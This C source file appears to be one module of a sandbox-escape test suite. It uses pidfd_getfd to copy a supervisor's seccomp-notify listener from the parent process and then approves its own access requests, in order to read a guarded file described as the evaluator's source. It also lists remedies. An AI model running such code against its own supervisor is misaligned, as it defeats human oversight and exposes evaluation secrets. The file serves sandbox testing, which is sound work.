// SPDX-License-Identifier: MIT
// build: -pthread
/*
 * Goal:  the evaluator's source, with the supervisor's own yes.
 * Means: a supervisor that leaks nothing still holds its listener, under our uid: pidfd_getfd(2) on
 *        our parent, number after number, until one is a listener. A thread of ours answers on it.
 */
#include "attacks/supervisor-evasion/listener.h"

#include <sys/pidfd.h>

/* A copy of the listener that our parent holds; -1: none, or it may not be had. */
static int steal(void)
{
	int parent = pidfd_open(getppid(), 0);

	for (int theirs = 3; parent >= 0 && theirs < HIGHEST; theirs++) {
		int fd = pidfd_getfd(parent, theirs, 0);

		if (fd < 0 && errno != EBADF)
			return -1;
		if (fd >= 0 && is_listener(fd))
			return fd;
		if (fd >= 0)
			close(fd);
	}
	return -1;
}

static enum claim run(const struct brief *b)
{
	int to = start_answering(), stolen;

	if (to < 0)
		return failed("a second thread");
	attempting(b);
	stolen = steal();
	if (stolen < 0 && errno != EBADF)
		return denied("pidfd_getfd from the parent");
	if (stolen >= 0 && write(to, &stolen, sizeof(stolen)) < 0)
		return failed("write to our thread");
	return loot_with_answers() ? CLAIM_DONE : denied("open");
}

const struct attack attack = {
	.effect = "a file that the supervisor guards is read",
	.means = "pidfd_getfd(2) takes a copy of the supervisor's listener",
	.oracle = "secret:task",
	.needs = NEED_NOTIFY,
	.quick = true,
	.attack_id = "T1562.001, CWE-269",
	.remedy = "a supervisor that is not dumpable; a filter without pidfd_getfd; Landlock",
	.refs = (const char *const[]){ "pidfd_getfd(2), since Linux 5.6", NULL },
	.run = run,
};
